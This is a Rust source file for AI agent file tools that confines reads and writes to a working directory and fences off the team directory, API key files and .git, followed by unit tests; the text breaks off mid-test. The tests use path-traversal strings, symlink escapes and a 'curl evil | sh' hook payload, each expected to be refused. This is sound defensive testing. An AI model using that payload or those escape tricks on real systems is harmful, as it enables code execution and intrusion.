//! File tools confined to the working directory: `read_file`, `write_file`, `edit_file`.
//!
//! Every path is opened relative to a descriptor of the working directory with `openat2`
//! (`RESOLVE_BENEATH | RESOLVE_NO_MAGICLINKS`): the kernel resolves it once, symlinks
//! included, and refuses a resolution that would leave the working directory (a `..` above
//! it, an absolute symlink, a relative one that climbs out, a `/proc` magic link). Then what
//! was opened is checked, not its name (`Workdir::judge` says how and why): nothing in the
//! team directory, no API key file, and for a change nothing in the read-only part (the
//! working dir's `.git`). Only then is the file read, truncated or written, as the same
//! inode. Missing parent dirs are made one at a time, each relative to the descriptor of the
//! dir above it, which is checked before anything is made in it.
//!
//! So a process that swaps dirs and symlinks while a tool runs (a racer an earlier command left
//! running: finding N4 of the third review) can change which file is opened, never let one
//! through unchecked: a name is never checked and then opened again.
//!
//! They touch regular files only: a FIFO, a socket or a device is refused with an error that
//! says what it is (opening a FIFO blocks until a writer comes, forever in a worker).
//! `read_file` reads at most [`READ_BOUND`] bytes and says so when the file was longer. What
//! `write_file` makes belongs to the user commands run as (see [`Workdir::for_agent`]).

use std::ffi::OsStr;
use std::fs::File;
use std::io::{Read, Seek, Write};
use std::os::fd::{AsFd, AsRawFd, OwnedFd};
use std::os::unix::fs::OpenOptionsExt;
use std::path::{Component, Path, PathBuf};
use std::sync::Arc;

use nix::errno::Errno;
use nix::fcntl::{AtFlags, OFlag, OpenHow, ResolveFlag, openat2};
use nix::sys::stat::{FileStat, Mode, fstat, fstatat, mkdirat};
use serde_json::Value;

use super::{OUTPUT_CAP, ToolOutput, cap_output, check_input, input_opt_u64, input_str};

/// A file's device and inode: the file itself, whatever name reaches it.
type FileId = (libc::dev_t, libc::ino_t);

/// A file or tree the file tools may not reach (or not change).
#[derive(Debug, Clone)]
struct Fence {
    /// Canonical; a path that does not exist yet is fenced by its name, so it cannot be made.
    path: PathBuf,
    /// When it exists: a file reached by another name (a hard link) is the same file.
    id: Option<FileId>,
}

impl Fence {
    fn around(path: &Path) -> Fence {
        let path = path.canonicalize().unwrap_or_else(|_| path.to_path_buf());
        let id = nix::sys::stat::stat(&path)
            .ok()
            .map(|st| (st.st_dev, st.st_ino));
        Fence { path, id }
    }

    /// Whether the file at `real` (canonical) with identity `id` is this one or lies inside.
    fn holds(&self, real: &Path, id: Option<FileId>) -> bool {
        (id.is_some() && self.id == id) || real.starts_with(&self.path)
    }
}

/// What a tool does with a file.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Use {
    Read,
    /// Create or replace.
    Write,
    /// Read, then replace.
    Edit,
}

impl Use {
    fn verb(self) -> &'static str {
        match self {
            Use::Read => "read",
            Use::Write => "write",
            Use::Edit => "edit",
        }
    }

    fn changes(self) -> bool {
        self != Use::Read
    }
}

/// The directory the file tools are confined to.
#[derive(Debug, Clone)]
pub struct Workdir {
    root: PathBuf,
    /// The working directory, opened (`O_PATH`): every path is resolved beneath it.
    dir: Arc<OwnedFd>,
    /// What no path may reach: the team dir and the API key files, wherever they lie.
    forbidden: Vec<Fence>,
    /// What the file tools may read but not change.
    read_only: Vec<Fence>,
    /// The uid and gid the files and dirs the tools make are given to; `None`: the worker's.
    owner: Option<(libc::uid_t, libc::gid_t)>,
}

impl Workdir {
    /// The working directory at `path` (canonicalized and opened).
    pub fn new(path: &Path) -> std::io::Result<Workdir> {
        let root = path.canonicalize()?;
        let dir = nix::fcntl::open(
            &root,
            OFlag::O_PATH | OFlag::O_DIRECTORY | OFlag::O_CLOEXEC,
            Mode::empty(),
        )?;
        Ok(Workdir {
            root,
            dir: Arc::new(dir),
            forbidden: Vec::new(),
            read_only: Vec::new(),
            owner: None,
        })
    }

    /// Also refuses every path inside `dir` (the team dir, symlinks resolved), wherever it lies:
    /// with the default layout it sits inside the working dir, and a tool that could write its
    /// files could forge approvals, rewrite prompts or truncate inboxes.
    pub fn forbid(mut self, dir: &Path) -> Workdir {
        self.forbidden.push(Fence::around(dir));
        self
    }

    /// The working dir of an agent of `team`. The team dir and the API key files named in the
    /// environment are out of the file tools' reach. The working dir's `.git` is read-only,
    /// all of it (git runs its hooks and obeys its config and `info/` later, as the user,
    /// outside any sandbox): the dir of a main tree, the `.git` file of a linked worktree, and
    /// a `.git` not there yet (so none can be planted).
    ///
    /// `owner` is the uid and gid commands run as when that is another user than the worker's
    /// (see [`crate::sandbox::Sandbox::owner`]): what the tools make is given to it, so that
    /// commands can change it in turn.
    pub fn for_agent(
        path: &Path,
        team: &crate::TeamDir,
        owner: Option<(libc::uid_t, libc::gid_t)>,
    ) -> std::io::Result<Workdir> {
        let mut wd = Workdir::new(path)?.forbid(team.root());
        wd = crate::llm::key_files().iter().fold(wd, |w, k| w.forbid(k));
        wd.read_only = vec![Fence::around(&wd.root.join(".git"))];
        wd.owner = owner;
        Ok(wd)
    }

    /// The canonical root.
    pub fn root(&self) -> &Path {
        &self.root
    }

    /// The path the model gave, relative to the working dir: see [`lexical`]. An absolute
    /// path that reaches the working dir through a symlink (`/home` -> `/data/home`) is
    /// mapped by its longest existing ancestor, canonicalized; that only finds the name, and
    /// what it names is opened and checked like any other.
    fn relative(&self, user: &str) -> Result<PathBuf, String> {
        if user.is_empty() {
            return Err("path is empty".to_owned());
        }
        let user_path = Path::new(user);
        if let Some(rel) = lexical(&self.root, user_path) {
            return Ok(rel);
        }
        if user_path.is_relative() {
            return Err(escape(user));
        }
        let mut existing =
            Path::new("/").join(lexical(Path::new("/"), user_path).ok_or_else(|| escape(user))?);
        let mut rest = Vec::new();
        while existing.symlink_metadata().is_err() {
            match existing.file_name() {
                Some(n) => rest.push(n.to_owned()),
                None => return Err(escape(user)),
            }
            existing.pop();
        }
        let mut real = existing.canonicalize().map_err(|_| escape(user))?;
        real.extend(rest.iter().rev());
        real.strip_prefix(&self.root)
            .map(Path::to_path_buf)
            .map_err(|_| escape(user))
    }

    /// Opens `rel` beneath the working dir, symlinks inside it followed.
    fn open_beneath(&self, rel: &Path, flags: OFlag) -> Result<OwnedFd, Errno> {
        let rel = if rel.as_os_str().is_empty() {
            Path::new(".")
        } else {
            rel
        };
        let how = OpenHow::new()
            .flags(flags | OFlag::O_CLOEXEC)
            .resolve(ResolveFlag::RESOLVE_BENEATH | ResolveFlag::RESOLVE_NO_MAGICLINKS);
        // EAGAIN: a rename somewhere raced the `..` of a symlink's target, and the kernel
        // would rather try again than guess.
        let mut tries = 0;
        loop {
            match openat2(self.dir.as_fd(), rel, how) {
                Err(Errno::EAGAIN) if tries < 8 => tries += 1,
                r => return r,
            }
        }
    }

    /// Refuses an opened file or dir by where it lies ([`Workdir::judge`]); returns its stat
    /// and its path.
    fn check(&self, fd: &OwnedFd, user: &str, how: Use) -> Result<(FileStat, PathBuf), String> {
        let st = fstat(fd).map_err(|e| failed(how, user, e))?;
        let real =
            std::fs::read_link(format!("/proc/self/fd/{}", fd.as_raw_fd())).map_err(|e| {
                format!(
                    "cannot {} {user}: cannot tell where it lies: {e}",
                    how.verb()
                )
            })?;
        self.judge(&real, Some((st.st_dev, st.st_ino)), user, how)?;
        Ok((st, real))
    }

    /// The verdict on a file the tools opened, from what the kernel says of the descriptor:
    /// `real`, its path (`/proc/self/fd/N`: canonical, every symlink resolved, at any depth),
    /// and `id`, its device and inode (`None`: a name about to be made, judged first).
    ///
    /// Why these two. The path says which tree the file lies in without a second look-up by
    /// name: a relative symlink such as `x -> .team/inbox` stays beneath the working dir, so
    /// the open allows it, and here it is `ROOT/.team/inbox/...`. The path could only go stale
    /// by a rename after the open, and the trees it guards are ones commands cannot rename
    /// into or out of (the team dir is hidden from them, `.git` is read-only to them); a file
    /// renamed within the rest of the working dir is one the tools may use anyway. The device
    /// and inode catch what a path cannot: a key file reached by another name (a hard link),
    /// and a fenced dir itself. Walking up the parents by device and inode would do for dirs,
    /// but a regular file has no `..` to walk from.
    fn judge(&self, real: &Path, id: Option<FileId>, user: &str, how: Use) -> Result<(), String> {
        if !real.starts_with(&self.root) {
            return Err(escape(user));
        }
        if self.forbidden.iter().any(|f| f.holds(real, id)) {
            return Err(format!(
                "path is inside the team directory, which tools may not touch: {user}"
            ));
        }
        if how.changes() && self.read_only.iter().any(|f| f.holds(real, id)) {
            return Err(format!("{user} is read-only to the file tools"));
        }
        Ok(())
    }

    /// The regular file at `rel`, checked, then opened for `how` as the inode that was
    /// checked; `Ok(None)` when there is none.
    fn open_file(&self, rel: &Path, user: &str, how: Use) -> Result<Option<File>, String> {
        let fd = match self.open_beneath(rel, OFlag::O_PATH) {
            Ok(fd) => fd,
            Err(Errno::ENOENT) => return Ok(None),
            Err(e) => return Err(open_error(e, user, how)),
        };
        let (st, _) = self.check(&fd, user, how)?;
        check_regular(st.st_mode, user)?;
        // The O_PATH descriptor reads and writes nothing; /proc/self/fd/N opens its inode
        // again, not a name (NO_MAGICLINKS is for paths the model gives, not for this one).
        let file = std::fs::OpenOptions::new()
            .read(how != Use::Write)
            .write(how.changes())
            .custom_flags(libc::O_NONBLOCK | libc::O_NOCTTY)
            .open(format!("/proc/self/fd/{}", fd.as_raw_fd()))
            .map_err(|e| format!("cannot {} {user}: {e}", how.verb()))?;
        let again = fstat(&file).map_err(|e| failed(how, user, e))?;
        if (again.st_dev, again.st_ino) != (st.st_dev, st.st_ino) {
            return Err(format!(
                "cannot {} {user}: it changed while being opened",
                how.verb()
            ));
        }
        Ok(Some(file))
    }

    /// The error for a file `rel` that does not exist: where it would be is checked first, so
    /// that a missing file in the team dir is refused as such.
    fn missing(&self, rel: &Path, user: &str, how: Use) -> String {
        let parts = parts(rel);
        let above = &parts[..parts.len().saturating_sub(1)];
        match self.deepest_dir(above, user, how) {
            Ok((dir, _)) => match self.check(&dir, user, how) {
                Ok(_) => failed(how, user, Errno::ENOENT),
                Err(e) => e,
            },
            Err(e) => e,
        }
    }

    /// Of the dirs `parts[..n]`, the deepest that exists (the working dir at least), opened;
    /// and its `n`.
    fn deepest_dir(
        &self,
        parts: &[&OsStr],
        user: &str,
        how: Use,
    ) -> Result<(OwnedFd, usize), String> {
        let mut have = parts.len();
        loop {
            let prefix: PathBuf = parts[..have].iter().collect();
            match self.open_beneath(&prefix, OFlag::O_PATH | OFlag::O_DIRECTORY) {
                Ok(fd) => return Ok((fd, have)),
                Err(Errno::ENOENT) if have > 0 => have -= 1,
                Err(e) => return Err(open_error(e, user, how)),
            }
        }
    }

    /// The dir `parts` name, checked, the missing ones made: each relative to the descriptor
    /// of the dir above it, judged by its name before it is made (so a fenced `.git` is not
    /// made either), checked once made, and given to the owner. Returns it and its path.
    fn make_dirs(&self, parts: &[&OsStr], user: &str) -> Result<(OwnedFd, PathBuf), String> {
        let (mut dir, have) = self.deepest_dir(parts, user, Use::Write)?;
        let (_, mut real) = self.check(&dir, user, Use::Write)?;
        let cannot = |e: Errno| {
            format!(
                "cannot create directories for {user}: {}",
                std::io::Error::from(e)
            )
        };
        for name in &parts[have..] {
            self.judge(&real.join(name), None, user, Use::Write)?;
            let made = match mkdirat(&dir, *name, Mode::from_bits_truncate(0o777)) {
                Ok(()) => true,
                Err(Errno::EEXIST) => false,
                Err(e) => return Err(cannot(e)),
            };
            // Made just now, by us or a racer: a plain dir, or nothing.
            let how = OpenHow::new()
                .flags(OFlag::O_RDONLY | OFlag::O_DIRECTORY | OFlag::O_NOFOLLOW | OFlag::O_CLOEXEC)
                .resolve(ResolveFlag::RESOLVE_BENEATH | ResolveFlag::RESOLVE_NO_SYMLINKS);
            let next = openat2(&dir, *name, how).map_err(cannot)?;
            if made {
                self.give(&next, user)?;
            }
            real = self.check(&next, user, Use::Write)?.1;
            dir = next;
        }
        Ok((dir, real))
    }

    /// The regular file `user` names, opened for writing: made, with its missing dirs, when
    /// there is none. Nothing is truncated here.
    fn open_for_write(&self, user: &str) -> Result<File, String> {
        let rel = self.relative(user)?;
        let parts = parts(&rel);
        for _ in 0..3 {
            if let Some(f) = self.open_file(&rel, user, Use::Write)? {
                return Ok(f);
            }
            let Some((name, above)) = parts.split_last() else {
                return Err(failed(Use::Write, user, Errno::ENOENT));
            };
            let (dir, real) = self.make_dirs(above, user)?;
            self.judge(&real.join(name), None, user, Use::Write)?;
            // O_EXCL: a name that exists now (a dangling symlink above all) is not followed.
            let how = OpenHow::new()
                .flags(
                    OFlag::O_WRONLY
                        | OFlag::O_CREAT
                        | OFlag::O_EXCL
                        | OFlag::O_NOFOLLOW
                        | OFlag::O_NOCTTY
                        | OFlag::O_CLOEXEC,
                )
                .mode(Mode::from_bits_truncate(0o666))
                .resolve(ResolveFlag::RESOLVE_BENEATH | ResolveFlag::RESOLVE_NO_SYMLINKS);
            match openat2(&dir, *name, how) {
                Ok(fd) => {
                    self.give(&fd, user)?;
                    return Ok(File::from(fd));
                }
                Err(Errno::EEXIST) => {
                    let link = fstatat(&dir, *name, AtFlags::AT_SYMLINK_NOFOLLOW)
                        .is_ok_and(|st| st.st_mode & libc::S_IFMT == libc::S_IFLNK);
                    if link {
                        return Err(format!(
                            "cannot write {user}: it is a symbolic link to nothing (its target \
                             does not exist)"
                        ));
                    }
                    // Made meanwhile: open it as it is.
                }
                Err(e) => return Err(open_error(e, user, Use::Write)),
            }
        }
        Err(format!(
            "cannot write {user}: it kept changing while being opened"
        ))
    }

    /// Gives what the tools made to the owner commands run as.
    fn give(&self, fd: &OwnedFd, user: &str) -> Result<(), String> {
        let Some((uid, gid)) = self.owner else {
            return Ok(());
        };
        nix::unistd::fchown(
            fd,
            Some(nix::unistd::Uid::from_raw(uid)),
            Some(nix::unistd::Gid::from_raw(gid)),
        )
        .map_err(|e| {
            format!(
                "cannot give {user} to uid {uid}, who commands run as: {}",
                std::io::Error::from(e)
            )
        })
    }
}

/// `user` relative to `root` by its text alone: `.` and `..` folded, `None` when a `..`
/// climbs above `root` or an absolute path names a place outside it. Empty: `root` itself.
fn lexical(root: &Path, user: &Path) -> Option<PathBuf> {
    let mut norm = PathBuf::new();
    for c in root.join(user).components() {
        match c {
            Component::ParentDir => {
                if !norm.pop() {
                    return None;
                }
            }
            Component::CurDir => {}
            other => norm.push(other),
        }
    }
    norm.strip_prefix(root).ok().map(Path::to_path_buf)
}

/// The names of a relative path without `.` or `..`.
fn parts(rel: &Path) -> Vec<&OsStr> {
    rel.iter().collect()
}

fn escape(user: &str) -> String {
    format!("path escapes the working directory: {user}")
}

fn failed(how: Use, user: &str, e: Errno) -> String {
    format!("cannot {} {user}: {}", how.verb(), std::io::Error::from(e))
}

/// The error of an open that failed: leaving the working dir, or what the kernel said.
fn open_error(e: Errno, user: &str, how: Use) -> String {
    match e {
        Errno::EXDEV => escape(user),
        Errno::ENOSYS => format!(
            "cannot {} {user}: the file tools need openat2 (Linux 5.6 or later)",
            how.verb()
        ),
        e => failed(how, user, e),
    }
}

/// `read_file{path, limit?}`.
pub fn read_file(wd: &Workdir, input: &Value) -> ToolOutput {
    let run = || -> Result<String, String> {
        check_input(input)?;
        let user = input_str(input, "path")?;
        let limit = input_opt_u64(input, "limit")?;
        let rel = wd.relative(user)?;
        let file = wd
            .open_file(&rel, user, Use::Read)?
            .ok_or_else(|| wd.missing(&rel, user, Use::Read))?;
        let (bytes, size) = read_bounded(file, user)?;
        let cut = (bytes.len() as u64) < size;
        let text =
            utf8_prefix(bytes, cut).ok_or_else(|| format!("{user} is not a UTF-8 text file"))?;
        let mut out = match limit {
            Some(n) => {
                let lines: Vec<&str> = text.lines().collect();
                let n = (n as usize).min(lines.len());
                let mut out = lines[..n].join("\n");
                if n < lines.len() {
                    let more = lines.len() - n;
                    out.push_str(&if cut {
                        format!("\n[at least {more} more lines not shown]")
                    } else {
                        format!("\n[{more} more lines not shown]")
                    });
                }
                out
            }
            None => text,
        };
        out = cap_output(out);
        if cut {
            out.push_str(&format!(
                "\n[{user} is {size} bytes; only its first {} bytes were read]",
                READ_BOUND
            ));
        }
        Ok(out)
    };
    match run() {
        Ok(s) => ToolOutput::ok(s),
        Err(e) => ToolOutput::error(e),
    }
}

/// Bytes of a file `read_file` reads at most: 4x the output cap (a character is up to 4
/// bytes), so a multi-GB log costs no more memory than a small one.
pub const READ_BOUND: usize = 4 * OUTPUT_CAP;

/// Reads at most [`READ_BOUND`] bytes of `file` (a regular file, checked); returns them and the
/// file's size.
fn read_bounded(file: File, user: &str) -> Result<(Vec<u8>, u64), String> {
    let size = file
        .metadata()
        .map_err(|e| format!("cannot read {user}: {e}"))?
        .len();
    let mut bytes = Vec::new();
    file.take(READ_BOUND as u64)
        .read_to_end(&mut bytes)
        .map_err(|e| format!("cannot read {user}: {e}"))?;
    Ok((bytes, size))
}

/// Refuses anything but a regular file (`mode` as `stat` gives it): reading or writing a FIFO
/// blocks until the other end opens it (forever, in a worker), a device or a socket may never
/// end.
fn check_regular(mode: libc::mode_t, user: &str) -> Result<(), String> {
    let what = match mode & libc::S_IFMT {
        libc::S_IFREG => return Ok(()),
        libc::S_IFDIR => return Err(format!("{user} is a directory")),
        libc::S_IFIFO => "a FIFO",
        libc::S_IFSOCK => "a socket",
        libc::S_IFCHR => "a character device",
        libc::S_IFBLK => "a block device",
        _ => "of an unknown kind",
    };
    Err(format!("{user} is not a regular file ({what})"))
}

/// The bytes as text, or `None` if they are not UTF-8. When the read was `cut`, a character
/// split by the cut is dropped rather than taken for binary.
fn utf8_prefix(mut bytes: Vec<u8>, cut: bool) -> Option<String> {
    match std::str::from_utf8(&bytes) {
        Ok(_) => {}
        Err(e) if cut && e.error_len().is_none() => bytes.truncate(e.valid_up_to()),
        Err(_) => return None,
    }
    String::from_utf8(bytes).ok()
}

/// Replaces what `file` holds with `content`.
fn replace(mut file: File, content: &str, user: &str) -> Result<(), String> {
    let write = |file: &mut File| -> std::io::Result<()> {
        file.set_len(0)?;
        file.rewind()?;
        file.write_all(content.as_bytes())
    };
    write(&mut file).map_err(|e| format!("cannot write {user}: {e}"))
}

/// `write_file{path, content}`.
pub fn write_file(wd: &Workdir, input: &Value) -> ToolOutput {
    let run = || -> Result<String, String> {
        check_input(input)?;
        let user = input_str(input, "path")?;
        let content = input_str(input, "content")?;
        replace(wd.open_for_write(user)?, content, user)?;
        Ok(format!("wrote {} bytes to {user}", content.len()))
    };
    match run() {
        Ok(s) => ToolOutput::ok(s),
        Err(e) => ToolOutput::error(e),
    }
}

/// `edit_file{path, old_text, new_text}`: old_text must occur exactly once.
pub fn edit_file(wd: &Workdir, input: &Value) -> ToolOutput {
    let run = || -> Result<String, String> {
        check_input(input)?;
        let user = input_str(input, "path")?;
        let old = input_str(input, "old_text")?;
        let new = input_str(input, "new_text")?;
        if old.is_empty() {
            return Err("old_text is empty".to_owned());
        }
        let rel = wd.relative(user)?;
        let mut file = wd
            .open_file(&rel, user, Use::Edit)?
            .ok_or_else(|| wd.missing(&rel, user, Use::Edit))?;
        let mut text = String::new();
        file.read_to_string(&mut text)
            .map_err(|e| format!("cannot read {user}: {e}"))?;
        match text.matches(old).count() {
            0 => Err(format!("old_text not found in {user}")),
            1 => {
                replace(file, &text.replacen(old, new, 1), user)?;
                Ok(format!("edited {user}"))
            }
            n => Err(format!(
                "old_text occurs {n} times in {user}; include more context so it occurs once"
            )),
        }
    };
    match run() {
        Ok(s) => ToolOutput::ok(s),
        Err(e) => ToolOutput::error(e),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;
    use std::os::unix::fs::{MetadataExt, symlink};

    fn read(wd: &Workdir, path: &str) -> ToolOutput {
        read_file(wd, &json!({ "path": path }))
    }

    fn write(wd: &Workdir, path: &str, content: &str) -> ToolOutput {
        write_file(wd, &json!({ "path": path, "content": content }))
    }

    #[test]
    fn lexical_folds_dots_and_refuses_climbing_out() {
        let root = Path::new("/w/root");
        let rel = |u: &str| lexical(root, Path::new(u));
        assert_eq!(rel("a/b.txt"), Some(PathBuf::from("a/b.txt")));
        assert_eq!(rel("./a/./../b"), Some(PathBuf::from("b")));
        assert_eq!(rel("/w/root/x/y"), Some(PathBuf::from("x/y")));
        assert_eq!(rel("."), Some(PathBuf::new()));
        assert_eq!(rel("/w/root"), Some(PathBuf::new()));
        for bad in [
            "../x",
            "a/../../x",
            "/etc/passwd",
            "/w/rootless/x",
            "/w/root/../x",
        ] {
            assert_eq!(rel(bad), None, "{bad}");
        }
    }

    #[test]
    fn check_regular_names_the_kind() {
        assert_eq!(check_regular(libc::S_IFREG | 0o644, "f"), Ok(()));
        assert_eq!(
            check_regular(libc::S_IFDIR | 0o755, "d"),
            Err("d is a directory".to_owned())
        );
        for (kind, what) in [
            (libc::S_IFIFO, "a FIFO"),
            (libc::S_IFSOCK, "a socket"),
            (libc::S_IFCHR, "a character device"),
            (libc::S_IFBLK, "a block device"),
        ] {
            assert_eq!(
                check_regular(kind | 0o600, "p"),
                Err(format!("p is not a regular file ({what})"))
            );
        }
    }

    #[test]
    fn confinement() {
        let tmp = tempfile::tempdir().unwrap();
        let wd = Workdir::new(tmp.path()).unwrap();
        assert!(!write(&wd, "a/b.txt", "x").is_error);
        for bad in ["../x", "/etc/passwd", "a/../../x"] {
            for out in [read(&wd, bad), write(&wd, bad, "x")] {
                assert!(out.is_error);
                assert_eq!(
                    out.content,
                    format!("path escapes the working directory: {bad}")
                );
            }
        }
        symlink("/etc", tmp.path().join("link")).unwrap();
        symlink("../../../../../../etc", tmp.path().join("up")).unwrap();
        symlink("/tmp/troupe-outside-target", tmp.path().join("dangling")).unwrap();
        let out = write(&wd, "dangling", "x");
        assert_eq!(out.content, "path escapes the working directory: dangling");
        assert!(!Path::new("/tmp/troupe-outside-target").exists());
        for path in ["link/passwd", "up/passwd", "link", "up/new"] {
            assert_eq!(
                read(&wd, path).content,
                format!("path escapes the working directory: {path}")
            );
            assert!(write(&wd, path, "x").is_error, "{path}");
        }
        // A magic link is not followed even where it resolves beneath the working dir.
        symlink("/proc/self/cwd", tmp.path().join("magic")).unwrap();
        assert!(read(&wd, "magic/a/b.txt").is_error);
        assert!(read(&wd, "").content.contains("path is empty"));
    }

    #[test]
    fn an_absolute_path_through_a_symlink_to_the_working_dir_is_mapped() {
        let tmp = tempfile::tempdir().unwrap();
        std::fs::create_dir(tmp.path().join("real")).unwrap();
        symlink(tmp.path().join("real"), tmp.path().join("alias")).unwrap();
        let wd = Workdir::new(&tmp.path().join("real")).unwrap();
        let via = tmp.path().join("alias/new/f.txt");
        assert!(!write(&wd, via.to_str().unwrap(), "x").is_error);
        assert_eq!(
            std::fs::read_to_string(tmp.path().join("real/new/f.txt")).unwrap(),
            "x"
        );
    }

    #[test]
    fn the_team_dir_is_out_of_reach_inside_the_working_dir() {
        let tmp = tempfile::tempdir().unwrap();
        let team = crate::TeamDir::create(tmp.path().join(".team")).unwrap();
        std::fs::write(team.config(), "{}").unwrap();
        let wd = Workdir::new(tmp.path()).unwrap().forbid(team.root());
        // Relative symlinks stay beneath the working dir: what they reach is refused.
        symlink(".team/inbox", tmp.path().join("x")).unwrap();
        symlink(".team", tmp.path().join("y")).unwrap();
        symlink(".team/config.json", tmp.path().join("z")).unwrap();
        symlink("y", tmp.path().join("q")).unwrap();
        std::fs::create_dir(tmp.path().join("sub")).unwrap();
        symlink("../.team", tmp.path().join("sub/up")).unwrap();
        for path in [
            ".team/inbox/lead.jsonl",
            ".team/config.json",
            "./.team/requests/x.json",
            "sub/../.team/transcripts/bob.jsonl",
            ".team",
            ".team/new/deep/file",
            "x/lead.jsonl",
            "x/new.jsonl",
            "y/config.json",
            "y/planted",
            "z",
            "q/inbox/lead.jsonl",
            "sub/up/config.json",
            "sub/up/made/f",
        ] {
            for out in [
                write(&wd, path, ""),
                read(&wd, path),
                edit_file(
                    &wd,
                    &json!({"path": path, "old_text": "{}", "new_text": "[]"}),
                ),
            ] {
                assert!(out.is_error, "{path}: {}", out.content);
                assert_eq!(
                    out.content,
                    format!("path is inside the team directory, which tools may not touch: {path}")
                );
            }
        }
        // Through an absolute symlink too (refused before it is followed).
        symlink(team.root(), tmp.path().join("t")).unwrap();
        assert!(read(&wd, "t/config.json").is_error);
        assert_eq!(std::fs::read_to_string(team.config()).unwrap(), "{}");
        for made in [
            "planted",
            "new",
            "made",
            "inbox/new.jsonl",
            "inbox/lead.jsonl",
        ] {
            assert!(!team.root().join(made).exists(), "{made}");
        }
        // The rest of the working dir is as before.
        assert!(!write(&wd, ".teamwork/x", "y").is_error);
    }

    #[test]
    fn a_key_file_is_refused_by_its_inode_under_any_name() {
        let tmp = tempfile::tempdir().unwrap();
        let key = tmp.path().join("key");
        std::fs::write(&key, "sk-secret").unwrap();
        std::fs::hard_link(&key, tmp.path().join("other-name")).unwrap();
        let wd = Workdir::new(tmp.path()).unwrap().forbid(&key);
        for path in ["key", "other-name"] {
            let out = read(&wd, path);
            assert!(out.is_error && !out.content.contains("sk-secret"), "{path}");
            assert!(write(&wd, path, "x").is_error, "{path}");
        }
        assert_eq!(std::fs::read_to_string(&key).unwrap(), "sk-secret");
    }

    #[test]
    fn the_whole_git_dir_is_read_only_and_readable() {
        let tmp = tempfile::tempdir().unwrap();
        std::fs::create_dir_all(tmp.path().join(".git/hooks")).unwrap();
        std::fs::create_dir_all(tmp.path().join(".git/info")).unwrap();
        std::fs::write(tmp.path().join(".git/config"), "[core]\n").unwrap();
        std::fs::write(tmp.path().join(".git/HEAD"), "ref: refs/heads/main\n").unwrap();
        symlink(".git/hooks", tmp.path().join("h")).unwrap();
        let team = crate::TeamDir::create(tmp.path().join(".team")).unwrap();
        let wd = Workdir::for_agent(tmp.path(), &team, None).unwrap();
        for path in [
            ".git/hooks/pre-commit",
            ".git/config",
            "./.git/hooks",
            ".git/info/x",
            ".git/newdir/f",
            ".git/HEAD",
            ".git",
            "h/post-checkout",
        ] {
            let w = write(&wd, path, "curl evil | sh");
            assert_eq!(
                w.content,
                format!("{path} is read-only to the file tools"),
                "{path}"
            );
        }
        let e = edit_file(
            &wd,
            &json!({"path": ".git/config", "old_text": "[core]", "new_text": "[alias]"}),
        );
        assert_eq!(e.content, ".git/config is read-only to the file tools");
        assert!(!tmp.path().join(".git/hooks/pre-commit").exists());
        assert!(!tmp.path().join(".git/newdir").exists());
        assert!(!tmp.path().join(".git/info/x").exists());
        assert_eq!(read(&wd, ".git/config").content, "[core]\n");
        assert_eq!(read(&wd, ".git/HEAD").content, "ref: refs/heads/main\n");
        // Not a prefix of names: `.gitignore` is an ordinary file.
        assert!(!write(&wd, ".gitignore", "target\n").is_error);
    }

    #[test]
    fn a_worktree_git_file_is_read_only_and_none_can_be_planted() {
        let tmp = tempfile::tempdir().unwrap();
        let team = crate::TeamDir::create(tmp.path().join("team")).unwrap();
        let wt = tmp.path().join("wt");
        std::fs::create_dir(&wt).unwrap();
        std::fs::write(wt.join(".git"), "gitdir: /repo/.git/worktrees/wt\n").unwrap();
        let wd = Workdir::for_agent(&wt, &team, None).unwrap();
        assert!(write(&wd, ".git", "gitdir: /tmp/mine\n").is_error);
        assert_eq!(
            read(&wd, ".git").content,
            "gitdir: /repo/.git/worktrees/wt\n"
        );
        let bare = tmp.path().join("bare");
        std::fs::create_dir(&bare).unwrap();
        let wd = Workdir::for_agent(&bare, &team, None).unwrap();
        assert!(write(&wd, ".git/hooks/pre-commit", "x").is_error);
        assert!(write(&wd, ".git", "gitdir: /tmp/mine\n").is_error);
        assert!(!bare.join(".git").exists());
    }

    #[test]
    fn symlinks_inside_the_working_dir_are_followed_and_dangling_ones_refused() {
        let tmp = tempfile::tempdir().unwrap();
        let wd = Workdir::new(tmp.path()).unwrap();
        std::fs::create_dir(tmp.path().join("sub")).unwrap();
        std::fs::write(tmp.path().join("sub/real.txt"), "old\n").unwrap();
        symlink("sub", tmp.path().join("ok")).unwrap();
        symlink("sub/real.txt", tmp.path().join("alias.txt")).unwrap();
        symlink("sub/missing.txt", tmp.path().join("nothing")).unwrap();
        assert!(!write(&wd, "ok/made/f.txt", "through ok").is_error);
        assert_eq!(
            std::fs::read_to_string(tmp.path().join("sub/made/f.txt")).unwrap(),
            "through ok"
        );
        assert!(!write(&wd, "alias.txt", "new\n").is_error);
        assert_eq!(
            std::fs::read_to_string(tmp.path().join("sub/real.txt")).unwrap(),
            "new\n"
        );
        assert!(
            tmp.path()
                .join("alias.txt")
                .symlink_metadata()
                .unwrap()
                .is_symlink()
        );
        let out = write(&wd, "nothing", "x");
        assert_eq!(
            out.content,
            "cannot write nothing: it is a symbolic link to nothing (its target does not exist)"
        );
        assert!(!tmp.path().join("sub/missing.txt").exists());
        let out = write(&wd, "sub/real.txt/x", "y");
        assert!(out.is_error, "{}", out.content);
    }

    #[test]
    fn write_read_edit() {
        let tmp = tempfile::tempdir().unwrap();
        let wd = Workdir::new(tmp.path()).unwrap();
        assert!(!write(&wd, "d/f.txt", "a\nb\nb\n").is_error);
        let r = read_file(&wd, &json!({"path": "d/f.txt", "limit": 1}));
        assert_eq!(r.content, "a\n[2 more lines not shown]");
        let e = edit_file(
            &wd,
            &json!({"path": "d/f.txt", "old_text": "b", "new_text": "c"}),
        );
        assert!(e.is_error && e.content.contains("occurs 2 times"));
        let e = edit_file(
            &wd,
            &json!({"path": "d/f.txt", "old_text": "z", "new_text": "c"}),
        );
        assert!(e.is_error && e.content.contains("not found"));
        assert!(
            !edit_file(
                &wd,
                &json!({"path": "d/f.txt", "old_text": "a", "new_text": "c"})
            )
            .is_error
        );
        assert_eq!(read(&wd, "d/f.txt").content, "c\nb\nb\n");
        // A shorter content replaces all of a longer one.
        assert!(!write(&wd, "d/f.txt", "z").is_error);
        assert_eq!(read(&wd, "d/f.txt").content, "z");
        assert!(
            read(&wd, "missing.txt")
                .content
                .starts_with("cannot read missing.txt: No such file")
        );
        assert_eq!(read(&wd, "d").content, "d is a directory");
        assert_eq!(write(&wd, ".", "x").content, ". is a directory");
        assert!(
            read_file(&wd, &json!("{bad json"))
                .content
